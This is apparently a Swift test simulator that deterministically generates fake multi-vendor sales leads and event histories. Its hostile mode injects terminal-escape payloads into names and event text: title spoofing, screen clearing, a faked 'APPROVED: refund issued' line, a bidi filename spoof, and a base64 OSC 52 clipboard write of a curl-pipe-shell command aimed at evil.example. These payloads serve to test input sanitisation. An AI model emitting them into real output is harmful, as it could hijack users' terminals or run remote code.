import Foundation

/// The simulated people and the facts about them the endpoints need, computed from the seed.
///
/// Nothing per person is stored except which vendors know them (a few bytes each): a person, a
/// journey or an event is regenerated from `(seed, person index, …)` whenever it is asked for, so
/// 100,000 leads cost a few megabytes and any page of a 20,000-event history costs only its own
/// events. Ids carry the person's index (see ``SimID``), so lookups need no tables either.
struct SimWorld: Sendable {
    static let day: Int64 = 86_400
    /// Bounds that keep ids and phone numbers unique (see ``SimID`` and ``nationalNumber(_:_:)``).
    static let maxLeads = 10_000_000
    static let maxHistory = 1_000_000
    static let vendors = SourceKind.allCases

    let seed: UInt64
    let count: Int
    let historySize: Int?
    /// ``SimulatorOptions/pageSize``: a cap on any page, on top of the vendor's own.
    let pageCap: Int?
    let hostile: Bool
    /// "Now" for the simulated world, in seconds since 1970; every event is before it.
    let referenceDate: Int64
    let outboundIDs: [String]
    /// Member person indices by vendor (``SourceKind`` order), ascending, so oldest lead first.
    let members: [[Int32]]
    /// NLPearl members by outbound campaign.
    let outboundMembers: [[Int32]]

    let nexorLeadIDs: SimID
    let nexorEventIDs: SimID
    let leadPingLeadIDs: SimID
    let leadPingEventIDs: SimID
    let nlpearlLeadIDs: SimID
    let nlpearlCallIDs: SimID

    init(options: SimulatorOptions) {
        seed = options.seed
        count = min(max(options.leads, 0), Self.maxLeads)
        historySize = options.historySize.map { min(max($0, 0), Self.maxHistory) }
        pageCap = options.pageSize.map { max($0, 1) }
        hostile = options.hostile
        // 2026-01-01T00:00:00Z plus up to 150 days and an afternoon hour: fixed per seed, so output
        // never depends on when it is generated.
        let jitter = SimRandom.hash(options.seed, SimSalt.referenceDate.rawValue)
        referenceDate = 1_767_225_600 + Int64(jitter % 150) * Self.day + 14 * 3600 + Int64((jitter >> 20) % 3600)

        let outbound = SimID(seed: options.seed, salt: .outbound)
        outboundIDs = [outbound.objectID(0), outbound.objectID(1)]
        nexorLeadIDs = SimID(seed: options.seed, salt: .nexorLeadID)
        nexorEventIDs = SimID(seed: options.seed, salt: .nexorEventID)
        leadPingLeadIDs = SimID(seed: options.seed, salt: .leadPingLeadID)
        leadPingEventIDs = SimID(seed: options.seed, salt: .leadPingEventID)
        nlpearlLeadIDs = SimID(seed: options.seed, salt: .nlpearlLeadID)
        nlpearlCallIDs = SimID(seed: options.seed, salt: .nlpearlCallID)

        var members: [[Int32]] = Array(repeating: [], count: Self.vendors.count)
        var outboundMembers: [[Int32]] = [[], []]
        for index in 0..<count {
            let mask = Self.vendorMask(seed: options.seed, index: index)
            for vendor in 0..<Self.vendors.count where mask & (1 << vendor) != 0 {
                members[vendor].append(Int32(index))
            }
            if mask & (1 << Self.ordinal(.nlpearl)) != 0 {
                outboundMembers[Self.outboundOrdinal(seed: options.seed, index: index)].append(Int32(index))
            }
        }
        self.members = members
        self.outboundMembers = outboundMembers
    }

    static func ordinal(_ kind: SourceKind) -> Int {
        switch kind {
        case .nexor: 0
        case .leadping: 1
        case .nlpearl: 2
        case .liveforce: 3
        }
    }

    /// Which vendors know person `index`, one bit per ``SourceKind`` ordinal: one vendor for 10%,
    /// two for 40%, three for 30%, all four for 20%.
    static func vendorMask(seed: UInt64, index: Int) -> UInt8 {
        var random = SimRandom(seed, SimSalt.membership.rawValue, UInt64(index))
        let roll = random.unit()
        let howMany = roll < 0.10 ? 1 : roll < 0.50 ? 2 : roll < 0.80 ? 3 : 4
        var order = [0, 1, 2, 3]
        for position in stride(from: 3, to: 0, by: -1) {
            order.swapAt(position, random.below(position + 1))
        }
        return order.prefix(howMany).reduce(UInt8(0)) { $0 | (1 << $1) }
    }

    static func outboundOrdinal(seed: UInt64, index: Int) -> Int {
        Int(SimRandom.hash(seed, SimSalt.outbound.rawValue, UInt64(index)) & 1)
    }

    func isMember(_ index: Int, of kind: SourceKind) -> Bool {
        index >= 0 && index < count && Self.vendorMask(seed: seed, index: index) & (1 << Self.ordinal(kind)) != 0
    }

    func outboundOrdinal(_ index: Int) -> Int { Self.outboundOrdinal(seed: seed, index: index) }

    // MARK: Time

    /// When person `index` became a lead: spread over the 90 days before the reference date,
    /// increasing with the index (so index order is creation order), at least 4 days back.
    func created(_ index: Int) -> Int64 {
        let position = (Double(index) + SimRandom.unit(seed, SimSalt.created.rawValue, UInt64(index))) / Double(max(count, 1))
        return referenceDate - 90 * Self.day + Int64(position * Double(86 * Self.day))
    }

    /// When vendor `kind` created its lead: a fixed lag per vendor, so every vendor's list keeps
    /// creation order too.
    func accountCreated(_ index: Int, _ kind: SourceKind) -> Int64 {
        let lag: [Int64] = [0, 347, 2 * 3600 + 13 * 60 + 5, -(41 * 60 + 17)]
        return created(index) + lag[Self.ordinal(kind)]
    }

    /// Events vendor `kind` has for person `index`.
    func eventCount(_ index: Int, _ kind: SourceKind) -> Int {
        if let historySize { return historySize }
        return 5 + Int(SimRandom.hash(seed, SimSalt.eventCount.rawValue, UInt64(index), UInt64(Self.ordinal(kind))) % 56)
    }

    /// The time of event `slot` of `count` in the journey of person `index` at vendor `kind`.
    ///
    /// Slots divide the journey evenly and each falls somewhere inside its share, so times increase
    /// with the slot and any one can be computed alone.
    func slotTime(_ index: Int, _ kind: SourceKind, slot: Int, of count: Int) -> Int64 {
        let start = accountCreated(index, kind) + 60
        let endJitter = SimRandom.unit(seed, SimSalt.journeyEnd.rawValue, UInt64(index), UInt64(Self.ordinal(kind)))
        let end = max(referenceDate - 3600 - Int64(endJitter * Double(35 * 3600)), start + Self.day)
        let inside = 0.05 + 0.9 * SimRandom.unit(seed, SimSalt.journeyEnd.rawValue, UInt64(index), UInt64(Self.ordinal(kind)), UInt64(slot))
        let position = (Double(slot) + inside) / Double(max(count, 1))
        return start + Int64(position * Double(end - start))
    }

    // MARK: People

    func person(_ index: Int) -> SimPerson {
        var random = SimRandom(seed, SimSalt.person.rawValue, UInt64(index))
        let locale = random.weighted(SimLocale.all)
        let given = random.pick(locale.givenNames)
        let family = random.pick(locale.familyNames)
        var firstName = given.native
        var lastName = family.native
        if random.chance(0.07) { firstName += " " + random.pick(Self.nameEmoji) }
        if hostile, random.chance(0.1) {
            let payload = random.pick(SimHostile.payloads)
            if random.chance(0.5) { firstName = payload + firstName } else { lastName += payload }
        }
        let company = random.chance(0.85) ? random.pick(locale.companies) : nil
        let national = nationalNumber(locale, index: index, random: &random)

        let givenLatin = Self.mailSafe(given.latin), familyLatin = Self.mailSafe(family.latin)
        let localPart: String
        switch random.below(4) {
        case 0: localPart = "\(givenLatin).\(familyLatin)\(index)"
        case 1: localPart = "\(givenLatin.prefix(1))\(familyLatin)\(index)"
        case 2: localPart = "\(givenLatin)_\(index)"
        default: localPart = "\(givenLatin).\(familyLatin).\(index)"
        }
        let domain = company.flatMap { random.chance(0.5) ? "\($0.latin).example" : nil } ?? random.pick(locale.mailDomains)
        let agent = random.pick(SimAgent.team(for: locale.language))
        return SimPerson(
            index: index, locale: locale, given: given, family: family, firstName: firstName,
            lastName: lastName, company: company, nationalNumber: national,
            email: "\(localPart)@\(domain)", created: created(index),
            vendorMask: Self.vendorMask(seed: seed, index: index), agent: agent)
    }

    /// A mobile number unique to `index`: the last seven digits are a bijection of the index
    /// (multiplying by a number coprime to 10^7), so no two people share a phone.
    private func nationalNumber(_ locale: SimLocale, index: Int, random: inout SimRandom) -> String {
        let offset = SimRandom.hash(seed, SimSalt.person.rawValue) % 10_000_000
        let unique = (UInt64(index) &* 3_141_593 &+ offset) % 10_000_000
        let uniqueText = String(unique)
        var digits = locale.mobilePrefix
        for _ in 0..<(locale.nationalLength - locale.mobilePrefix.count - 7) {
            digits += String(random.below(10))
        }
        return digits + String(repeating: "0", count: 7 - uniqueText.count) + uniqueText
    }

    /// The person whose phone has these digits (calling code included), found by inverting the
    /// bijection in ``nationalNumber(_:index:random:)`` instead of searching.
    func index(ofPhoneDigits digits: String) -> Int? {
        guard digits.count >= 7, let unique = UInt64(digits.suffix(7)) else { return nil }
        let offset = SimRandom.hash(seed, SimSalt.person.rawValue) % 10_000_000
        let index = Int((unique + 10_000_000 - offset) % 10_000_000 * Self.inverseMultiplier % 10_000_000)
        guard index < count, SimJSON.digits(person(index).e164) == digits else { return nil }
        return index
    }

    /// 3,141,593⁻¹ mod 10⁷, by the extended Euclidean algorithm.
    private static let inverseMultiplier: UInt64 = {
        var (oldR, r) = (Int64(3_141_593), Int64(10_000_000))
        var (oldS, s) = (Int64(1), Int64(0))
        while r != 0 {
            let quotient = oldR / r
            (oldR, r) = (r, oldR - quotient * r)
            (oldS, s) = (s, oldS - quotient * s)
        }
        return UInt64((oldS % 10_000_000 + 10_000_000) % 10_000_000)
    }()

    private static func mailSafe(_ text: String) -> String {
        String(text.lowercased().unicodeScalars.filter { ("a"..."z").contains($0) || ("0"..."9").contains($0) }.map(Character.init))
    }

    private static let nameEmoji = ["🌸", "🚀", "✨", "🦄", "👩‍💻", "🇨🇱", "😊", "⚽️", "👨‍👩‍👧"]

    /// The public view of person `index`, with every vendor's lead.
    func simulatedPerson(_ index: Int) -> SimulatedPerson {
        let person = person(index)
        let accounts = Self.vendors.filter { person.vendorMask & (1 << Self.ordinal($0)) != 0 }.map { kind in
            let id = leadID(index, kind)
            let outbound = kind == .nlpearl ? outboundIDs[outboundOrdinal(index)] : nil
            return SimulatedAccount(
                kind: kind, id: id, outboundID: outbound,
                ref: "\(kind.rawValue):" + (outbound.map { "\($0)/\(id)" } ?? id),
                phone: phone(person, for: kind), email: email(person, for: kind),
                eventCount: eventCount(index, kind))
        }
        return SimulatedPerson(
            index: index, firstName: person.firstName, lastName: person.lastName, phone: person.e164,
            email: person.email, company: person.company?.native, locale: person.locale.code,
            createdAt: Date(timeIntervalSince1970: TimeInterval(person.created)), accounts: accounts)
    }

    // MARK: How each vendor writes a person

    /// The phone as `kind` stores it: E.164 for Nexor and NLPearl, grouped with spaces for
    /// LeadPing, and one of three shapes for Liveforce's free-text form field.
    func phone(_ person: SimPerson, for kind: SourceKind) -> String {
        let locale = person.locale
        switch kind {
        case .nexor, .nlpearl:
            return person.e164
        case .leadping:
            return "+\(locale.callingCode) " + person.groupedNational.joined(separator: " ")
        case .liveforce:
            switch SimRandom.hash(seed, SimSalt.liveforceLead.rawValue, UInt64(person.index)) % 3 {
            case 0: return locale.callingCode + person.nationalNumber
            case 1: return "+\(locale.callingCode)-" + person.groupedNational.joined(separator: "-")
            default: return "(+\(locale.callingCode)) " + person.groupedNational.joined(separator: " ")
            }
        }
    }

    /// The email as `kind` stores it; some vendors keep the case the person typed.
    func email(_ person: SimPerson, for kind: SourceKind) -> String {
        let roll = SimRandom.hash(seed, SimSalt.person.rawValue, UInt64(person.index), UInt64(Self.ordinal(kind))) % 10
        switch (kind, roll) {
        case (.nexor, 0), (.leadping, 0...2), (.liveforce, 0...1):
            return person.email.split(separator: ".", omittingEmptySubsequences: false)
                .map { $0.prefix(1).uppercased() + $0.dropFirst() }.joined(separator: ".")
        case (.liveforce, 2):
            return person.email.uppercased()
        default:
            return person.email
        }
    }

    // MARK: Ids

    func leadID(_ index: Int, _ kind: SourceKind) -> String {
        switch kind {
        case .nexor: nexorLeadIDs.uuid(UInt64(index))
        case .leadping: leadPingLeadIDs.uuid(UInt64(index))
        case .nlpearl: nlpearlLeadIDs.objectID(UInt64(index))
        case .liveforce: String(index + 1)
        }
    }

    /// The person behind vendor `kind`'s lead id, or nil when there is no such lead.
    func index(ofLead id: String, _ kind: SourceKind) -> Int? {
        let number: UInt64?
        switch kind {
        case .nexor: number = nexorLeadIDs.number(fromUUID: id)
        case .leadping: number = leadPingLeadIDs.number(fromUUID: id)
        case .nlpearl: number = nlpearlLeadIDs.number(fromObjectID: id)
        case .liveforce: number = UInt64(id).flatMap { $0 > 0 && String($0) == id ? $0 - 1 : nil }
        }
        guard let number, number < UInt64(count), isMember(Int(number), of: kind) else { return nil }
        return Int(number)
    }

    /// Packs a person and an event number into one id number (24 bits for the event).
    static func pack(_ index: Int, _ slot: Int) -> UInt64 { UInt64(index) << 24 | UInt64(slot) }

    /// Unpacks ``pack(_:_:)``, checking the person is a member of `kind` with that many events.
    func unpack(_ number: UInt64?, _ kind: SourceKind) -> (index: Int, slot: Int)? {
        guard let number else { return nil }
        let index = Int(number >> 24), slot = Int(number & 0xFF_FFFF)
        guard index < count, isMember(index, of: kind), slot < eventCount(index, kind) else { return nil }
        return (index, slot)
    }

    /// NLPearl's `externalId`: the CRM number the lead was uploaded with.
    func externalID(_ index: Int) -> String {
        let digits = String(index + 1)
        return "CRM-" + String(repeating: "0", count: max(0, 6 - digits.count)) + digits
    }

    func index(ofExternalID id: String) -> Int? {
        guard id.hasPrefix("CRM-"), let number = Int(id.dropFirst(4)), number > 0,
              externalID(number - 1) == id, isMember(number - 1, of: .nlpearl) else { return nil }
        return number - 1
    }

    // MARK: Faults and hostility

    /// A hostile payload for event `key` of person `index` about 4% of the time in hostile mode.
    func hostileSuffix(_ index: Int, _ key: UInt64) -> String {
        guard hostile else { return "" }
        var random = SimRandom(seed, SimSalt.hostile.rawValue, UInt64(index), key)
        return random.chance(0.04) ? random.pick(SimHostile.payloads) : ""
    }
}

/// A person as generated, with what the vendors' payloads are built from.
struct SimPerson: Sendable {
    let index: Int
    let locale: SimLocale
    let given: SimLocale.Name
    let family: SimLocale.Name
    let firstName: String
    let lastName: String
    let company: SimLocale.Name?
    let nationalNumber: String
    let email: String
    let created: Int64
    let vendorMask: UInt8
    let agent: SimAgent

    var e164: String { "+\(locale.callingCode)\(nationalNumber)" }
    var phrasebook: SimPhrasebook { locale.language.phrasebook }
    var fullName: String { lastName.isEmpty ? firstName : "\(firstName) \(lastName)" }

    /// The national number cut into the locale's groups.
    var groupedNational: [String] {
        var groups: [String] = []
        var rest = Substring(nationalNumber)
        for size in locale.groups {
            groups.append(String(rest.prefix(size)))
            rest = rest.dropFirst(size)
        }
        return groups
    }

    /// `template` with the person's and agent's names filled in.
    func fill(_ template: String) -> String {
        template.replacingOccurrences(of: "{name}", with: firstName)
            .replacingOccurrences(of: "{agent}", with: agent.firstName)
            .replacingOccurrences(of: "{company}", with: company?.native ?? Self.yourCompany(locale.language))
    }

    /// "your company" in the person's language, for leads without a company.
    private static func yourCompany(_ language: SimLanguage) -> String {
        switch language {
        case .spanish: "tu empresa"
        case .portuguese: "sua empresa"
        case .english: "your company"
        case .german: "Ihr Unternehmen"
        case .french: "votre entreprise"
        case .japanese: "御社"
        case .chinese: "贵公司"
        case .arabic: "شركتك"
        case .hindi: "आपकी कंपनी"
        }
    }
}

/// A salesperson (or the AI agent speaking as one) who works a lead.
struct SimAgent: Sendable {
    let firstName: String
    let fullName: String
    let email: String
    let id: String

    static func team(for language: SimLanguage) -> [SimAgent] {
        teams[language] ?? []
    }

    private static let teams: [SimLanguage: [SimAgent]] = Dictionary(uniqueKeysWithValues: [
        SimLanguage.spanish, .portuguese, .english, .german, .french, .japanese, .chinese, .arabic, .hindi,
    ].map { ($0, makeTeam(for: $0)) })

    private static func makeTeam(for language: SimLanguage) -> [SimAgent] {
        switch language {
        case .spanish: [agent("Valentina", "Rojas", 1), agent("Martín", "Salas", 2, mail: "martin.salas")]
        case .portuguese: [agent("Bruno", "Costa", 3), agent("Fernanda", "Lima", 4)]
        case .english: [agent("Alice", "Martin", 5), agent("Marcus", "Reed", 6)]
        case .german: [agent("Hannah", "Weber", 7)]
        case .french: [agent("Camille", "Laurent", 8)]
        case .japanese: [agent("健二", "森", 9, mail: "kenji.mori")]
        case .chinese: [agent("丽娜", "李", 10, mail: "lina.li")]
        case .arabic: [agent("ليلى", "حداد", 11, mail: "layla.haddad")]
        case .hindi: [agent("अनन्या", "राव", 12, mail: "ananya.rao")]
        }
    }

    private static func agent(_ first: String, _ last: String, _ number: Int, mail: String? = nil) -> SimAgent {
        let local = mail ?? "\(first.lowercased()).\(last.lowercased())"
        return SimAgent(
            firstName: first, fullName: "\(first) \(last)", email: "\(local)@salesteam.example",
            id: "usr_" + SimID.hex(SimRandom.hash(UInt64(number)), digits: 12))
    }
}

/// Terminal attacks hidden in vendor text when ``SimulatorOptions/hostile`` is on.
enum SimHostile {
    static let payloads = [
        "\u{1B}]0;pwned by a lead\u{07}",  // OSC 0: window and icon title
        "\u{1B}]2;owned\u{1B}\\",  // OSC 2: window title, ST-terminated
        "\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u{07}",  // OSC 52: clipboard write
        "\u{1B}[2J\u{1B}[H",  // CSI 2J: clear the screen, cursor home
        "\rAPPROVED: refund issued",  // carriage return: overwrite the line so far
        "\u{202E}fdp.exe",  // bidi override: reverses what follows
    ]
}
